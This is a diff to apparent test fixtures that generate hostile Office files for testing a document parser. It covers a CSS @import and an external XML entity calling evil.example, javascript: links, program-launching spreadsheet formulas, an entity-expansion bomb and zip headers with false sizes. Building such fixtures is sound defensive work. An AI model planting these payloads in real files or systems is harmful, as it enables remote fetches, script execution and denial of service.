@@ -33,15 +33,15 @@ function zipParts(name: string, parts: Record<string, string | Uint8Array>): Sam
   };
 }
 
-/** Slides with a macro, pictures and a film from another machine, a program to start, and links that are scripts. */
+/** Slides with a macro, external images and video, a program to start and script links. */
 export function makeMaliciousPptx(): SampleDocument {
   const click = (id: string, action = '') =>
     `<p:cNvPr id="2" name="x"><a:hlinkClick r:id="${id}" action="${action}"/></p:cNvPr><p:cNvSpPr/><p:nvPr/>`;
-  const box = '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="900000"/></a:xfrm></p:spPr>';
+  const alert = '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="900000"/></a:xfrm></p:spPr>';
   const shape = (head: string, text: string, run = '') =>
-    `<p:sp><p:nvSpPr>${head}</p:nvSpPr>${box}<p:txBody><a:bodyPr/><a:p><a:r><a:rPr>${run}</a:rPr><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`;
-  const picture = (how: string) =>
-    `<p:pic><p:nvPicPr><p:cNvPr id="3" name="p"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="film"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:${how}="far"/></p:blipFill>${box}</p:pic>`;
+    `<p:sp><p:nvSpPr>${head}</p:nvSpPr>${alert}<p:txBody><a:bodyPr/><a:p><a:r><a:rPr>${run}</a:rPr><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`;
+  const makeImageShape = (fill: string) =>
+    `<p:pic><p:nvPicPr><p:cNvPr id="3" name="p"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="film"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:${fill}="far"/></p:blipFill>${alert}</p:pic>`;
   return zipParts('hostile.pptm', {
     '[Content_Types].xml': EMPTY_CONTENT_TYPES,
     '_rels/.rels': relationshipsXml(['r1', 'officeDocument', 'ppt/presentation.xml']),
@@ -58,8 +58,8 @@ export function makeMaliciousPptx(): SampleDocument {
         'start',
         '<a:latin typeface="x; } @import url(//evil.example/f)"/>',
       ),
-      picture('link'),
-      picture('embed'),
+      makeImageShape('link'),
+      makeImageShape('embed'),
     ].join('')}</p:spTree></p:cSld></p:sld>`,
     'ppt/slides/_rels/slide1.xml.rels': relationshipsXml(
       ['script', 'hyperlink', `javascript:${ATTACK_SCRIPT}`, 'External'],
@@ -70,7 +70,7 @@ export function makeMaliciousPptx(): SampleDocument {
   });
 }
 
-/** Cells that would start a program, ask another machine or are links to a script. */
+/** Cells that start a program, request another host or link to a script. */
 export function makeMaliciousXlsx(): SampleDocument {
   const formula = (text: string) => `<c t="str"><f>${text}</f><v>quiet text</v></c>`;
   return zipParts('hostile.xlsm', {
@@ -100,19 +100,22 @@ export function makeMaliciousXlsx(): SampleDocument {
   });
 }
 
-/** Packages that say of a few KB that they are far more, or are it without saying so, and XML that grows as it is read. */
+/** Decompression bombs: packages with a false size and XML that expands. */
 export function listDecompressionBombs(): SampleDocument[] {
-  const laughs = `<!DOCTYPE l [<!ENTITY a0 "ha">${Array.from(
+  const entityBomb = `<!DOCTYPE l [<!ENTITY a0 "ha">${Array.from(
     { length: 30 },
     (_, at) => `<!ENTITY a${at + 1} "&a${at};&a${at};&a${at};">`,
   ).join('')}<!ENTITY x SYSTEM "https://evil.example/x.dtd">]>`;
-  const grown = (name: string, { buffer }: SampleDocument) =>
+  const inflate = (name: string, { buffer }: SampleDocument) =>
     zipParts(
       name,
       Object.fromEntries(
         Object.entries(unzipSync(buffer)).map(([path, bytes]) => {
           const xml = strFromU8(bytes);
-          return [path, xml.includes('quiet text') ? laughs + xml.replace('quiet text', '&a30;&x;') : xml];
+          return [
+            path,
+            xml.includes('quiet text') ? entityBomb + xml.replace('quiet text', '&a30;&x;') : xml,
+          ];
         }),
       ),
     );
@@ -121,15 +124,15 @@ export function listDecompressionBombs(): SampleDocument[] {
     'word/document.xml': new Uint8Array(40 * MIB),
   });
   return [
-    grown('laughs.docx', makeDocx('', ['quiet text'])),
-    grown('laughs.pptx', makePptx('', ['quiet text'])),
-    grown('laughs.xlsx', makeXlsx('', [['quiet text']])),
+    inflate('laughs.docx', makeDocx('', ['quiet text'])),
+    inflate('laughs.pptx', makePptx('', ['quiet text'])),
+    inflate('laughs.xlsx', makeXlsx('', [['quiet text']])),
     ...['says.docx', 'says.pptx', 'says.xlsx'].map((name) => withDeclaredSize(zeros, name, 2 ** 31)),
     ...['hides.docx', 'hides.pptx', 'hides.xlsx'].map((name) => withDeclaredSize(zeros, name, 100)),
   ];
 }
 
-/** The package under this name with another size of its largest part in the table of contents. */
+/** Returns the package with a false size of its largest part in the central directory. */
 function withDeclaredSize({ buffer, mimeType }: SampleDocument, name: string, size: number): SampleDocument {
   const copy = Buffer.from(buffer);
   copy.writeUInt32LE(size, copy.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1')) + 24);
